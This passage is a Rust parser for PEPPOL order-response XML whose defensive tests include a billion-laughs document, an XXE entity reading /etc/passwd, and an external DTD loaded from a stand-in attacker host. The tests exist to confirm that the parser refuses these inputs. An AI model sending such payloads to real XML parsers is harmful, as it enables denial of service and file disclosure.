//! Reading a PEPPOL BIS Ordering 3 Order Response (transaction T76, UBL OrderResponse 2.1).
//!
//! The bytes come from a supplier's system we do not control, so the reader is defensive
//! before it is helpful: DTDs are refused outright (no entity expansion, no external
//! fetches), input size, nesting depth and line count are capped, and elements are matched
//! by namespace and local name so a prefix cannot fake or hide one.

use chrono::NaiveDate;
use quick_xml::events::{BytesRef, Event};
use quick_xml::name::ResolveResult;
use quick_xml::NsReader;

use crate::ubl::{clean_text, excerpt, truncated, UblError, NS_CAC, NS_CBC, NS_ORDER_RESPONSE};

/// Largest document accepted. A response to an order of a thousand lines fits in a fraction
/// of this; anything larger is a mistake or an attack.
pub const MAX_INPUT_BYTES: usize = 1024 * 1024;
/// Deepest element nesting accepted. UBL order responses are about 8 levels deep.
pub const MAX_DEPTH: usize = 64;
/// Most `cac:OrderLine` elements accepted, well above any order the shop sends.
pub const MAX_LINES: usize = 1000;

/// What the supplier answered to one of our orders.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OrderResponse {
    /// The response's own identifier.
    pub id: String,
    pub issue_date: Option<NaiveDate>,
    /// Our order reference (`cac:OrderReference/cbc:ID`), e.g. `CMD-000042`.
    pub order_reference: String,
    pub code: ResponseCode,
    /// Document notes, several joined by line breaks.
    pub note: Option<String>,
    /// End of the promised delivery period, or its start when only that is given.
    pub promised_delivery: Option<NaiveDate>,
    /// The supplier's own order number (`cbc:SalesOrderID`).
    pub seller_reference: Option<String>,
    pub lines: Vec<LineResponse>,
}

/// `cbc:OrderResponseCode`, UNCL 1225 as restricted by PEPPOL.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ResponseCode {
    /// AB: the order was received; a decision follows later.
    Received,
    /// AP: accepted as ordered.
    Accepted,
    /// RE: rejected.
    Rejected,
    /// CA: accepted with the changes given in the lines.
    AcceptedWithChanges,
}

impl ResponseCode {
    pub fn as_code(self) -> &'static str {
        match self {
            Self::Received => "AB",
            Self::Accepted => "AP",
            Self::Rejected => "RE",
            Self::AcceptedWithChanges => "CA",
        }
    }

    pub fn from_code(code: &str) -> Option<Self> {
        match code {
            "AB" => Some(Self::Received),
            "AP" => Some(Self::Accepted),
            "RE" => Some(Self::Rejected),
            "CA" => Some(Self::AcceptedWithChanges),
            _ => None,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LineResponse {
    /// The id of our order line this answers: `cac:OrderLineReference/cbc:LineID`, or the
    /// response line's `cac:LineItem/cbc:ID` when the reference is absent.
    pub line_id: String,
    pub status: LineStatus,
    pub note: Option<String>,
}

/// `cac:LineItem/cbc:LineStatusCode`, UNCL 1229 as used by PEPPOL.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum LineStatus {
    /// 5: accepted without amendment.
    Accepted,
    /// 7: not accepted.
    NotAccepted,
    /// 3: changed (quantity, date, price or a substitute item).
    Changed,
    /// Any other code, kept so that nothing the supplier said is lost.
    Other(String),
}

impl LineStatus {
    pub fn from_code(code: &str) -> Self {
        match code {
            "5" => Self::Accepted,
            "7" => Self::NotAccepted,
            "3" => Self::Changed,
            other => Self::Other(other.to_owned()),
        }
    }

    pub fn as_code(&self) -> &str {
        match self {
            Self::Accepted => "5",
            Self::NotAccepted => "7",
            Self::Changed => "3",
            Self::Other(code) => code,
        }
    }
}

/// Reads a T76 Order Response. Only what the shop acts on is extracted; everything else
/// (parties, prices, substitute items…) is checked for well-formedness and skipped.
pub fn parse_order_response(xml: &[u8]) -> Result<OrderResponse, UblError> {
    if xml.len() > MAX_INPUT_BYTES {
        return Err(UblError::TooLarge {
            size: xml.len(),
            limit: MAX_INPUT_BYTES,
        });
    }
    let text = std::str::from_utf8(xml).map_err(|_| UblError::NotUtf8)?;
    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);

    let mut reader = NsReader::from_str(text);
    let config = reader.config_mut();
    // `<a/>` then reads as `<a></a>`, so an empty element is handled like any other.
    config.expand_empty_elements = true;
    config.check_end_names = true;

    let mut state = State::default();
    loop {
        let (namespace, event) = match reader.read_resolved_event() {
            Ok((namespace, event)) => (namespace_of(namespace)?, event),
            Err(error) => {
                // quick-xml quotes the offending markup, which the sender controls.
                let message = format!("{error} (near byte {})", reader.error_position());
                return Err(UblError::Malformed(truncated(&message, 200)));
            }
        };
        match event {
            Event::DocType(_) => return Err(UblError::DoctypeRefused),
            Event::Decl(decl) => {
                if let Some(encoding) = decl.encoding() {
                    let encoding = encoding.map_err(|e| UblError::Malformed(e.to_string()))?;
                    if !encoding.eq_ignore_ascii_case("UTF-8") {
                        return Err(UblError::UnsupportedEncoding(excerpt(&encoding)));
                    }
                }
            }
            Event::Start(start) => {
                check_attributes(&start)?;
                state.start(namespace, start.local_name().as_ref())?;
            }
            Event::End(_) => state.end()?,
            Event::Text(text) => state.text(&text.xml10_content())?,
            Event::CData(data) => state.text(&data.xml10_content())?,
            Event::GeneralRef(reference) => {
                let c = resolve_reference(&reference)?;
                state.text(c.encode_utf8(&mut [0; 4]))?;
            }
            Event::Eof => return state.finish(),
            // expand_empty_elements is on, so there are none; comments and processing
            // instructions carry nothing we use.
            Event::Empty(_) | Event::Comment(_) | Event::PI(_) => {}
        }
    }
}

/// Attribute values are never used, but a document whose attributes are not well-formed
/// (an undeclared entity, a stray `&`, a duplicate name) is refused like any other
/// malformed XML, never silently accepted.
fn check_attributes(start: &quick_xml::events::BytesStart<'_>) -> Result<(), UblError> {
    use quick_xml::escape::EscapeError;
    for attribute in start.attributes() {
        let attribute =
            attribute.map_err(|e| UblError::Malformed(truncated(&e.to_string(), 200)))?;
        match attribute.normalized_value(quick_xml::XmlVersion::Implicit1_0) {
            Ok(_) => {}
            Err(quick_xml::Error::Escape(EscapeError::UnrecognizedEntity(_, name))) => {
                return Err(UblError::UndefinedEntity(excerpt(&name)))
            }
            Err(e) => return Err(UblError::Malformed(truncated(&e.to_string(), 200))),
        }
    }
    Ok(())
}

/// The namespace an element is in, reduced to the ones we match on.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Namespace {
    Cac,
    Cbc,
    OrderResponse,
    /// Any other namespace (or none), kept as text for the wrong-root message.
    Other(String),
}

fn namespace_of(resolved: ResolveResult<'_>) -> Result<Namespace, UblError> {
    match resolved {
        ResolveResult::Bound(ns) => Ok(match ns.as_ref() {
            NS_CAC => Namespace::Cac,
            NS_CBC => Namespace::Cbc,
            NS_ORDER_RESPONSE => Namespace::OrderResponse,
            other => Namespace::Other(other.to_owned()),
        }),
        ResolveResult::Unbound => Ok(Namespace::Other(String::new())),
        ResolveResult::Unknown(prefix) => Err(UblError::Malformed(format!(
            "namespace prefix '{}' is not declared",
            excerpt(&prefix)
        ))),
    }
}

/// The five predefined entities and character references; there is no DTD that could
/// declare any other.
fn resolve_reference(reference: &BytesRef<'_>) -> Result<char, UblError> {
    if reference.is_char_ref() {
        return match reference.resolve_char_ref() {
            Ok(Some(c)) => Ok(c),
            _ => Err(UblError::Malformed(format!(
                "&{}; is not a valid character reference",
                excerpt(reference)
            ))),
        };
    }
    match &**reference {
        "lt" => Ok('<'),
        "gt" => Ok('>'),
        "amp" => Ok('&'),
        "apos" => Ok('\''),
        "quot" => Ok('"'),
        other => Err(UblError::UndefinedEntity(excerpt(other))),
    }
}

/// The elements the reader tells apart; everything else is `Other`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tag {
    Root,
    Id,
    IssueDate,
    OrderResponseCode,
    Note,
    SalesOrderId,
    StartDate,
    EndDate,
    LineStatusCode,
    LineId,
    OrderReference,
    Delivery,
    PromisedDeliveryPeriod,
    OrderLine,
    LineItem,
    OrderLineReference,
    Other,
}

fn classify(namespace: &Namespace, local: &str) -> Tag {
    match (namespace, local) {
        (Namespace::Cbc, "ID") => Tag::Id,
        (Namespace::Cbc, "IssueDate") => Tag::IssueDate,
        (Namespace::Cbc, "OrderResponseCode") => Tag::OrderResponseCode,
        (Namespace::Cbc, "Note") => Tag::Note,
        (Namespace::Cbc, "SalesOrderID") => Tag::SalesOrderId,
        (Namespace::Cbc, "StartDate") => Tag::StartDate,
        (Namespace::Cbc, "EndDate") => Tag::EndDate,
        (Namespace::Cbc, "LineStatusCode") => Tag::LineStatusCode,
        (Namespace::Cbc, "LineID") => Tag::LineId,
        (Namespace::Cac, "OrderReference") => Tag::OrderReference,
        (Namespace::Cac, "Delivery") => Tag::Delivery,
        (Namespace::Cac, "PromisedDeliveryPeriod") => Tag::PromisedDeliveryPeriod,
        (Namespace::Cac, "OrderLine") => Tag::OrderLine,
        (Namespace::Cac, "LineItem") => Tag::LineItem,
        (Namespace::Cac, "OrderLineReference") => Tag::OrderLineReference,
        _ => Tag::Other,
    }
}

/// The leaf elements whose text is kept, each known by its full path from the root so
/// that, say, the `cbc:ID` of a substituted item never passes for the line's.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Field {
    Id,
    IssueDate,
    Code,
    Note,
    SalesOrderId,
    OrderReferenceId,
    PromisedStart,
    PromisedEnd,
    LineItemId,
    LineReferenceId,
    LineStatus,
    LineNote,
}

fn field_at(path: &[Tag]) -> Option<Field> {
    use Tag::*;
    Some(match path {
        [Root, Id] => Field::Id,
        [Root, IssueDate] => Field::IssueDate,
        [Root, OrderResponseCode] => Field::Code,
        [Root, Note] => Field::Note,
        [Root, SalesOrderId] => Field::SalesOrderId,
        [Root, OrderReference, Id] => Field::OrderReferenceId,
        [Root, Delivery, PromisedDeliveryPeriod, StartDate] => Field::PromisedStart,
        [Root, Delivery, PromisedDeliveryPeriod, EndDate] => Field::PromisedEnd,
        [Root, OrderLine, LineItem, Id] => Field::LineItemId,
        [Root, OrderLine, LineItem, LineStatusCode] => Field::LineStatus,
        // PEPPOL puts the line note in the line item; plain UBL also allows one on the line.
        [Root, OrderLine, LineItem, Note] | [Root, OrderLine, Note] => Field::LineNote,
        [Root, OrderLine, OrderLineReference, LineId] => Field::LineReferenceId,
        _ => return None,
    })
}

#[derive(Default)]
struct LineDraft {
    item_id: Option<String>,
    reference_id: Option<String>,
    status: Option<String>,
    notes: Vec<String>,
}

#[derive(Default)]
struct State {
    path: Vec<Tag>,
    /// The field being read and the depth of its element; text deeper down is ignored.
    capture: Option<(Field, usize)>,
    text: String,
    root_closed: bool,
    deliveries: usize,

    id: Option<String>,
    issue_date: Option<NaiveDate>,
    code: Option<String>,
    notes: Vec<String>,
    sales_order_id: Option<String>,
    order_reference: Option<String>,
    promised_start: Option<NaiveDate>,
    promised_end: Option<NaiveDate>,
    line: Option<LineDraft>,
    lines: Vec<LineResponse>,
}

impl State {
    fn start(&mut self, namespace: Namespace, local: &str) -> Result<(), UblError> {
        if self.root_closed {
            return Err(UblError::Malformed(
                "an element follows the root element".into(),
            ));
        }
        if self.path.len() >= MAX_DEPTH {
            return Err(UblError::TooDeep { limit: MAX_DEPTH });
        }
        let tag = if self.path.is_empty() {
            if namespace != Namespace::OrderResponse || local != "OrderResponse" {
                let namespace = match namespace {
                    Namespace::Cac => NS_CAC.to_owned(),
                    Namespace::Cbc => NS_CBC.to_owned(),
                    Namespace::OrderResponse => NS_ORDER_RESPONSE.to_owned(),
                    Namespace::Other(ns) => excerpt(&ns),
                };
                return Err(UblError::WrongRoot {
                    local: excerpt(local),
                    namespace,
                });
            }
            Tag::Root
        } else {
            classify(&namespace, local)
        };
        self.path.push(tag);

        match self.path.as_slice() {
            [Tag::Root, Tag::OrderLine] => {
                if self.lines.len() >= MAX_LINES {
                    return Err(UblError::TooManyLines { limit: MAX_LINES });
                }
                self.line = Some(LineDraft::default());
            }
            [Tag::Root, Tag::Delivery] => self.deliveries += 1,
            _ => {}
        }
        if self.capture.is_none() {
            if let Some(field) = field_at(&self.path) {
                self.capture = Some((field, self.path.len()));
                self.text.clear();
            }
        }
        Ok(())
    }

    fn text(&mut self, text: &str) -> Result<(), UblError> {
        if self.path.is_empty() {
            if text.trim().is_empty() {
                return Ok(());
            }
            return Err(UblError::Malformed("text outside the root element".into()));
        }
        if matches!(self.capture, Some((_, depth)) if depth == self.path.len()) {
            self.text.push_str(text);
        }
        Ok(())
    }

    fn end(&mut self) -> Result<(), UblError> {
        if let Some((field, depth)) = self.capture {
            if depth == self.path.len() {
                self.capture = None;
                let text = std::mem::take(&mut self.text);
                self.store(field, text)?;
            }
        }
        if matches!(self.path.as_slice(), [Tag::Root, Tag::OrderLine]) {
            self.close_line()?;
        }
        self.path.pop();
        if self.path.is_empty() {
            self.root_closed = true;
        }
        Ok(())
    }

    fn store(&mut self, field: Field, raw: String) -> Result<(), UblError> {
        let line_number = self.lines.len() + 1;
        let value = clean_text(&raw, matches!(field, Field::Note | Field::LineNote));
        let value = (!value.is_empty()).then_some(value);
        match field {
            Field::Id => set_once(&mut self.id, value, "cbc:ID"),
            Field::IssueDate => {
                let date = value.map(|v| parse_date("cbc:IssueDate", &v)).transpose()?;
                set_once(&mut self.issue_date, date, "cbc:IssueDate")
            }
            Field::Code => set_once(&mut self.code, value, "cbc:OrderResponseCode"),
            Field::Note => {
                self.notes.extend(value);
                Ok(())
            }
            Field::SalesOrderId => set_once(&mut self.sales_order_id, value, "cbc:SalesOrderID"),
            Field::OrderReferenceId => set_once(
                &mut self.order_reference,
                value,
                "cac:OrderReference/cbc:ID",
            ),
            // UBL allows several deliveries; the first one's promise is the one we record.
            Field::PromisedStart | Field::PromisedEnd if self.deliveries > 1 => Ok(()),
            Field::PromisedStart => {
                let element = "cac:PromisedDeliveryPeriod/cbc:StartDate";
                let date = value.map(|v| parse_date(element, &v)).transpose()?;
                set_once(&mut self.promised_start, date, element)
            }
            Field::PromisedEnd => {
                let element = "cac:PromisedDeliveryPeriod/cbc:EndDate";
                let date = value.map(|v| parse_date(element, &v)).transpose()?;
                set_once(&mut self.promised_end, date, element)
            }
            Field::LineItemId | Field::LineReferenceId | Field::LineStatus | Field::LineNote => {
                let Some(line) = self.line.as_mut() else {
                    return Ok(());
                };
                match field {
                    Field::LineItemId => set_once(
                        &mut line.item_id,
                        value,
                        &format!("cac:OrderLine[{line_number}]/cac:LineItem/cbc:ID"),
                    ),
                    Field::LineStatus => set_once(
                        &mut line.status,
                        value,
                        &format!("cac:OrderLine[{line_number}]/cac:LineItem/cbc:LineStatusCode"),
                    ),
                    // UBL allows several references; the first names the line answered.
                    Field::LineReferenceId => {
                        if line.reference_id.is_none() {
                            line.reference_id = value;
                        }
                        Ok(())
                    }
                    _ => {
                        line.notes.extend(value);
                        Ok(())
                    }
                }
            }
        }
    }

    fn close_line(&mut self) -> Result<(), UblError> {
        let number = self.lines.len() + 1;
        let Some(line) = self.line.take() else {
            return Ok(());
        };
        let line_id = line.reference_id.or(line.item_id).ok_or_else(|| {
            UblError::MissingElement(format!(
                "cac:OrderLine[{number}]/cac:OrderLineReference/cbc:LineID (or cac:LineItem/cbc:ID)"
            ))
        })?;
        let status = line.status.ok_or_else(|| {
            UblError::MissingElement(format!(
                "cac:OrderLine[{number}]/cac:LineItem/cbc:LineStatusCode"
            ))
        })?;
        self.lines.push(LineResponse {
            line_id,
            status: LineStatus::from_code(&status),
            note: join(line.notes),
        });
        Ok(())
    }

    fn finish(self) -> Result<OrderResponse, UblError> {
        if !self.root_closed {
            return Err(UblError::Malformed(if self.path.is_empty() {
                "the document has no root element".into()
            } else {
                "the document ends before its root element is closed".into()
            }));
        }
        let id = self
            .id
            .ok_or_else(|| UblError::MissingElement("cbc:ID".into()))?;
        let code = self
            .code
            .ok_or_else(|| UblError::MissingElement("cbc:OrderResponseCode".into()))?;
        let code = ResponseCode::from_code(&code)
            .ok_or_else(|| UblError::UnknownResponseCode(excerpt(&code)))?;
        let order_reference = self
            .order_reference
            .ok_or_else(|| UblError::MissingElement("cac:OrderReference/cbc:ID".into()))?;
        Ok(OrderResponse {
            id,
            issue_date: self.issue_date,
            order_reference,
            code,
            note: join(self.notes),
            promised_delivery: self.promised_end.or(self.promised_start),
            seller_reference: self.sales_order_id,
            lines: self.lines,
        })
    }
}

/// Keeps the first value; a second one is refused rather than silently preferred, since
/// two systems picking different copies of a field is how documents get misread.
fn set_once<T>(slot: &mut Option<T>, value: Option<T>, element: &str) -> Result<(), UblError> {
    match (slot.is_some(), value) {
        (true, Some(_)) => Err(UblError::DuplicateElement(element.to_owned())),
        (false, Some(value)) => {
            *slot = Some(value);
            Ok(())
        }
        (_, None) => Ok(()),
    }
}

fn join(parts: Vec<String>) -> Option<String> {
    (!parts.is_empty()).then(|| parts.join("\n"))
}

/// Exactly `YYYY-MM-DD`, as PEPPOL-COMMON-R030 requires: no time zone, no sign, no
/// five-digit year.
fn parse_date(element: &str, value: &str) -> Result<NaiveDate, UblError> {
    let invalid = || UblError::InvalidDate {
        element: element.to_owned(),
        value: excerpt(value),
    };
    let bytes = value.as_bytes();
    let shaped = bytes.len() == 10
        && bytes[4] == b'-'
        && bytes[7] == b'-'
        && bytes
            .iter()
            .enumerate()
            .all(|(i, b)| i == 4 || i == 7 || b.is_ascii_digit());
    if !shaped {
        return Err(invalid());
    }
    let number = |range: std::ops::Range<usize>| value.get(range).and_then(|s| s.parse().ok());
    match (number(0..4), number(5..7), number(8..10)) {
        (Some(year), Some(month), Some(day)) => {
            NaiveDate::from_ymd_opt(year as i32, month, day).ok_or_else(invalid)
        }
        _ => Err(invalid()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ubl::test_support::{ci, shared};

    const HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<OrderResponse xmlns="urn:oasis:names:specification:ubl:schema:xsd:OrderResponse-2"
  xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">"#;

    fn doc(body: &str) -> String {
        format!("{HEAD}\n{body}\n</OrderResponse>")
    }

    fn minimal(code: &str, lines: &str) -> String {
        doc(&format!(
            "<cbc:ID>R-1</cbc:ID><cbc:IssueDate>2025-03-15</cbc:IssueDate>\
             <cbc:OrderResponseCode>{code}</cbc:OrderResponseCode>\
             <cac:OrderReference><cbc:ID>CMD-000042</cbc:ID></cac:OrderReference>{lines}"
        ))
    }

    fn line(id: &str, status: &str) -> String {
        format!(
            "<cac:OrderLine><cac:LineItem><cbc:ID>{id}</cbc:ID>\
             <cbc:LineStatusCode>{status}</cbc:LineStatusCode></cac:LineItem></cac:OrderLine>"
        )
    }

    fn parse(xml: &str) -> OrderResponse {
        parse_order_response(xml.as_bytes()).expect("response parses")
    }

    fn parse_err(xml: &str) -> UblError {
        parse_order_response(xml.as_bytes()).expect_err("response must be refused")
    }

    fn date(y: i32, m: u32, d: u32) -> Option<NaiveDate> {
        NaiveDate::from_ymd_opt(y, m, d)
    }

    fn example(name: &str) -> Option<OrderResponse> {
        let path = shared(&format!("peppol/examples/{name}"));
        if !path.exists() {
            assert!(!ci(), "{name} must be available in CI");
            eprintln!("skipping: {name} not found");
            return None;
        }
        let bytes = std::fs::read(&path).unwrap();
        Some(parse_order_response(&bytes).unwrap_or_else(|e| panic!("{name}: {e}")))
    }

    fn ids_and_statuses(response: &OrderResponse) -> Vec<(&str, LineStatus)> {
        response
            .lines
            .iter()
            .map(|l| (l.line_id.as_str(), l.status.clone()))
            .collect()
    }

    #[test]
    fn official_example() {
        let Some(r) = example("OrderResponse_Example.xml") else {
            return;
        };
        assert_eq!(r.id, "101");
        assert_eq!(r.issue_date, date(2013, 7, 1));
        assert_eq!(r.order_reference, "11233");
        assert_eq!(r.code, ResponseCode::AcceptedWithChanges);
        assert_eq!(
            r.note.as_deref(),
            Some("Response message with amendments in the details")
        );
        assert_eq!(r.promised_delivery, date(2013, 7, 16));
        assert_eq!(r.seller_reference.as_deref(), Some("101-111"));
        assert_eq!(
            ids_and_statuses(&r),
            [
                ("1", LineStatus::Changed),
                ("2", LineStatus::Accepted),
                ("3", LineStatus::Changed)
            ]
        );
        assert_eq!(r.lines[0].note.as_deref(), Some("Order line note text"));
        assert_eq!(r.lines[1].note, None);
        assert_eq!(r.lines[2].note.as_deref(), Some("Substituted Item"));
    }

    #[test]
    fn official_uc1_accepted_with_changes() {
        let Some(r) = example("UC1_Order_response.xml") else {
            return;
        };
        assert_eq!(r.id, "101");
        assert_eq!(r.issue_date, date(2013, 7, 1));
        assert_eq!(r.order_reference, "1");
        assert_eq!(r.code, ResponseCode::AcceptedWithChanges);
        assert_eq!(
            r.note.as_deref(),
            Some("Response message with amendments in the details")
        );
        assert_eq!(r.promised_delivery, date(2013, 7, 16));
        assert_eq!(r.seller_reference, None);
        assert_eq!(
            ids_and_statuses(&r),
            [
                ("1", LineStatus::Accepted),
                ("2", LineStatus::NotAccepted),
                ("3", LineStatus::Changed)
            ]
        );
        assert_eq!(r.lines[2].note.as_deref(), Some("Substituted Item"));
    }

    #[test]
    fn official_uc2_item_identifiers() {
        let Some(r) = example("UC2_Order_response.xml") else {
            return;
        };
        assert_eq!(r.id, "101");
        assert_eq!(r.order_reference, "1");
        assert_eq!(r.code, ResponseCode::AcceptedWithChanges);
        assert_eq!(
            r.note.as_deref(),
            Some("Response message with item identifiers")
        );
        assert_eq!(r.promised_delivery, date(2013, 7, 16));
        assert_eq!(
            ids_and_statuses(&r),
            [("1", LineStatus::Accepted), ("2", LineStatus::Accepted)]
        );
    }

    #[test]
    fn official_uc3_rejected() {
        let Some(r) = example("UC3_Order_response.xml") else {
            return;
        };
        assert_eq!(r.id, "4552");
        assert_eq!(r.issue_date, date(2013, 7, 1));
        assert_eq!(r.order_reference, "5");
        assert_eq!(r.code, ResponseCode::Rejected);
        assert_eq!(r.note.as_deref(), Some("No available translators"));
        assert_eq!(r.promised_delivery, None);
        assert!(r.lines.is_empty());
    }

    #[test]
    fn every_official_response_parses() {
        let dir = shared("peppol/examples");
        if !dir.exists() {
            assert!(!ci(), "shared/peppol/examples must be available in CI");
            return eprintln!("skipping: shared/peppol/examples not found");
        }
        let mut count = 0;
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_string_lossy().to_lowercase();
            if name.ends_with(".xml") && name.contains("response") {
                let r = parse_order_response(&std::fs::read(&path).unwrap())
                    .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
                assert!(!r.id.is_empty() && !r.order_reference.is_empty());
                count += 1;
            }
        }
        assert!(count >= 4, "found only {count} example responses");
    }

    #[test]
    fn an_order_is_not_an_order_response() {
        let path = shared("peppol/examples/Order_Example.xml");
        if !path.exists() {
            return;
        }
        let err = parse_order_response(&std::fs::read(path).unwrap()).unwrap_err();
        assert_eq!(err.code(), "ubl-wrong-root");
        assert!(err.to_string().contains("'Order'"), "{err}");
    }

    #[test]
    fn minimal_responses() {
        let r = parse(&minimal("AP", ""));
        assert_eq!(r.code, ResponseCode::Accepted);
        assert_eq!(r.order_reference, "CMD-000042");
        assert_eq!(r.issue_date, date(2025, 3, 15));
        assert!(r.lines.is_empty() && r.note.is_none() && r.promised_delivery.is_none());
        assert_eq!(parse(&minimal("AB", "")).code, ResponseCode::Received);
        assert_eq!(parse(&minimal("RE", "")).code, ResponseCode::Rejected);
        assert_eq!(
            parse(&minimal(" CA\n", &line("1", "5"))).code,
            ResponseCode::AcceptedWithChanges
        );
    }

    #[test]
    fn response_codes_round_trip() {
        for code in ["AB", "AP", "RE", "CA"] {
            assert_eq!(ResponseCode::from_code(code).unwrap().as_code(), code);
        }
        assert_eq!(ResponseCode::from_code("ap"), None);
        for code in ["5", "7", "3", "42"] {
            assert_eq!(LineStatus::from_code(code).as_code(), code);
        }
        assert_eq!(LineStatus::from_code("42"), LineStatus::Other("42".into()));
    }

    #[test]
    fn line_status_codes() {
        let lines = [
            line("1", "5"),
            line("2", "7"),
            line("3", "3"),
            line("4", "1"),
        ]
        .concat();
        let r = parse(&minimal("CA", &lines));
        assert_eq!(
            ids_and_statuses(&r),
            [
                ("1", LineStatus::Accepted),
                ("2", LineStatus::NotAccepted),
                ("3", LineStatus::Changed),
                ("4", LineStatus::Other("1".into())),
            ]
        );
    }

    #[test]
    fn order_line_reference_names_our_line() {
        let body = "<cac:OrderLine><cac:LineItem><cbc:ID>R1</cbc:ID>\
            <cbc:LineStatusCode>5</cbc:LineStatusCode></cac:LineItem>\
            <cac:SellerSubstitutedLineItem><cbc:ID>99</cbc:ID></cac:SellerSubstitutedLineItem>\
            <cac:OrderLineReference><cbc:LineID>7</cbc:LineID></cac:OrderLineReference>\
            <cac:OrderLineReference><cbc:LineID>8</cbc:LineID></cac:OrderLineReference>\
            </cac:OrderLine>";
        let r = parse(&minimal("CA", body));
        assert_eq!(r.lines[0].line_id, "7");
    }

    #[test]
    fn nested_ids_are_not_mistaken_for_ours() {
        let body = "<cac:SellerSupplierParty><cac:Party><cac:PartyIdentification>\
            <cbc:ID>FAKE</cbc:ID></cac:PartyIdentification></cac:Party></cac:SellerSupplierParty>\
            <cac:Delivery><cac:DeliveryLocation><cbc:ID>LOC</cbc:ID></cac:DeliveryLocation>\
            <cac:RequestedDeliveryPeriod><cbc:EndDate>2030-01-01</cbc:EndDate></cac:RequestedDeliveryPeriod>\
            </cac:Delivery>";
        let r = parse(&minimal("AP", body));
        assert_eq!(r.id, "R-1");
        assert_eq!(r.order_reference, "CMD-000042");
        assert_eq!(r.promised_delivery, None);
    }

    #[test]
    fn promised_delivery_uses_end_then_start() {
        let period = |inner: &str| {
            minimal(
                "AP",
                &format!("<cac:Delivery><cac:PromisedDeliveryPeriod>{inner}</cac:PromisedDeliveryPeriod></cac:Delivery>"),
            )
        };
        let both = period(
            "<cbc:StartDate>2025-04-01</cbc:StartDate><cbc:EndDate>2025-04-03</cbc:EndDate>",
        );
        assert_eq!(parse(&both).promised_delivery, date(2025, 4, 3));
        let start = period(
            "<cbc:StartDate>2025-04-01</cbc:StartDate><cbc:StartTime>08:00:00</cbc:StartTime>",
        );
        assert_eq!(parse(&start).promised_delivery, date(2025, 4, 1));
        let two = minimal(
            "AP",
            "<cac:Delivery><cac:PromisedDeliveryPeriod><cbc:EndDate>2025-04-03</cbc:EndDate></cac:PromisedDeliveryPeriod></cac:Delivery>\
             <cac:Delivery><cac:PromisedDeliveryPeriod><cbc:EndDate>2025-05-09</cbc:EndDate></cac:PromisedDeliveryPeriod></cac:Delivery>",
        );
        assert_eq!(parse(&two).promised_delivery, date(2025, 4, 3));
    }

    #[test]
    fn matches_namespaces_not_prefixes() {
        let xml = r#"<r:OrderResponse xmlns:r="urn:oasis:names:specification:ubl:schema:xsd:OrderResponse-2"
            xmlns:a="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
            xmlns:b="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
            <b:ID>X</b:ID><b:OrderResponseCode>RE</b:OrderResponseCode>
            <a:OrderReference><ID xmlns="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">CMD-7</ID></a:OrderReference>
            </r:OrderResponse>"#;
        let r = parse(xml);
        assert_eq!(
            (r.id.as_str(), r.code, r.order_reference.as_str()),
            ("X", ResponseCode::Rejected, "CMD-7")
        );

        // The usual prefix bound to another namespace is not the UBL element.
        let fake = doc(r#"<cbc:ID>R</cbc:ID>
            <x:OrderResponseCode xmlns:x="urn:example:other">AP</x:OrderResponseCode>
            <cac:OrderReference><cbc:ID>C</cbc:ID></cac:OrderReference>"#);
        assert_eq!(
            parse_err(&fake),
            UblError::MissingElement("cbc:OrderResponseCode".into())
        );
        let rebound = doc(r#"<cbc:ID>R</cbc:ID>
            <cbc:OrderResponseCode xmlns:cbc="urn:example:other">AP</cbc:OrderResponseCode>
            <cac:OrderReference><cbc:ID>C</cbc:ID></cac:OrderReference>"#);
        assert_eq!(parse_err(&rebound).code(), "ubl-missing-element");
    }

    #[test]
    fn refuses_undeclared_prefix() {
        let xml = minimal("AP", "<zz:Thing>1</zz:Thing>");
        assert_eq!(parse_err(&xml).code(), "ubl-malformed");
    }

    #[test]
    fn refuses_billion_laughs() {
        let xml = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<OrderResponse xmlns="urn:oasis:names:specification:ubl:schema:xsd:OrderResponse-2"
  xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:Note>&lol9;</cbc:Note>
</OrderResponse>"#;
        let err = parse_err(xml);
        assert_eq!(err, UblError::DoctypeRefused);
        assert_eq!(err.code(), "ubl-doctype-refused");
        assert!(err.to_string().contains("DOCTYPE"));
    }

    #[test]
    fn refuses_external_entities() {
        let xml = format!(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE OrderResponse [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n{}",
            minimal("AP", "<cbc:Note>&xxe;</cbc:Note>")
                .trim_start_matches("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n")
        );
        assert_eq!(parse_err(&xml), UblError::DoctypeRefused);
        let external_dtd = format!(
            "<!DOCTYPE OrderResponse SYSTEM \"http://attacker.example/evil.dtd\">{}",
            minimal("AP", "").trim_start_matches("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n")
        );
        assert_eq!(parse_err(&external_dtd), UblError::DoctypeRefused);
    }

    #[test]
